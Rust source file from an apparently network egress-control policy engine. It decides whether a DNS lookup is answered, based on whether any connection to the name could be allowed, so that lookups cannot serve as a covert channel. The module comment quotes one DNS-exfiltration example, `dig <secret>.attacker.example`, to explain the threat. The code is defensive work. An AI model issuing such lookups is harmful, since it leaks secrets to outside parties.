//! How a DNS lookup is decided (policy-v1, "DNS lookups"), before any
//! address is known.
//!
//! A lookup exists to make a connection; a lookup for a connection no rule
//! could allow is only a channel (`dig <secret>.attacker.example` delivers
//! the secret with no connection at all). So:
//!
//! 1. The lookup is decided as a request of protocol `dns` to the name,
//!    port 53. If a rule decides it (a rule naming the name with no
//!    `protocols`, or with `dns` among them), that rule settles the lookup.
//! 2. Otherwise the lookup is answered when a connection to the name
//!    could be allowed by name: some protocol (`http`, `tls`, `tcp`) and
//!    port (80, 443, or one a rule names) whose decision, made with no
//!    addresses, is not a refusal (by a deny rule, or by the default). A
//!    connection refused only for what veto cannot see inside a tunnel
//!    still counts as possible: veto may open it. Rules that allow by
//!    address alone (`cidrs`) do not make a name worth looking up: a
//!    name reached that way needs a rule naming it (or a `dns` rule).
//! 3. If every such connection is refused by name, so is the lookup, by
//!    the decision of the first one tried (TLS on 443).

use crate::decide::{By, Decision, Grants, Request};
use crate::model::{Document, Effect, Protocol};

/// The ports a lookup is tried against: 443, 80, then every port a rule
/// names, at most 32 in all.
pub(crate) fn ports(doc: &Document) -> Box<[u16]> {
    let mut ports = vec![443, 80];
    let named = doc
        .rules
        .iter()
        .filter_map(|r| r.to.as_ref()?.ports.as_ref())
        .flatten();
    for p in named {
        if ports.len() >= 32 {
            break;
        }
        if !ports.contains(p) {
            ports.push(*p);
        }
    }
    ports.into_boxed_slice()
}

/// Whether a connection decided by its name alone (no addresses) is
/// refused whatever it would resolve to, for a lookup: as
/// [`crate::Policy::refused_by_name`], except that the default refuses
/// even when an allow rule matches by address (`cidrs`). Such a rule allows
/// connections to addresses; it does not make every name worth asking
/// about, or every query a name server would see a channel out.
fn refused_by_name(d: &Decision) -> bool {
    let final_refusal = matches!(d.applied.by, By::Rule(_) | By::PrivateNetwork(..) | By::Default);
    d.applied.effect == Effect::Deny && d.shadow.effect == Effect::Deny && final_refusal
}

/// A lookup's decision.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Lookup {
    /// Whether the name is resolved and answered.
    pub answered: bool,
    /// The decision that settled it, and the protocol and port of the
    /// request it was made for (`dns` and 53 when a rule named the
    /// lookup itself).
    pub decision: Decision,
    pub protocol: Protocol,
    pub port: u16,
}

impl crate::Policy {
    /// Decides a DNS lookup of `req.host` by `req.machine` (see the module
    /// documentation). `req.protocol` is `dns`; `req.ips` is empty.
    pub fn decide_lookup(&self, req: &Request<'_>, grants: &dyn Grants) -> Lookup {
        let dns = Request {
            protocol: Protocol::Dns,
            port: 53,
            ips: &[],
            method: "",
            path: "",
            ..*req
        };
        let d = self.decide(&dns, grants);
        if matches!(d.applied.by, By::Rule(_)) {
            return Lookup {
                answered: d.applied.effect != Effect::Deny,
                decision: d,
                protocol: Protocol::Dns,
                port: 53,
            };
        }
        let mut first: Option<Lookup> = None;
        for protocol in [Protocol::Tls, Protocol::Http, Protocol::Tcp] {
            for &port in self.lookup_ports.iter() {
                let view = Request {
                    protocol,
                    port,
                    ..dns
                };
                let d = self.decide(&view, grants);
                let l = Lookup {
                    answered: !refused_by_name(&d),
                    decision: d,
                    protocol,
                    port,
                };
                if l.answered {
                    return l;
                }
                first.get_or_insert(l);
            }
        }
        // At least one port (443) was tried.
        first.unwrap_or(Lookup {
            answered: false,
            decision: d,
            protocol: Protocol::Dns,
            port: 53,
        })
    }
}
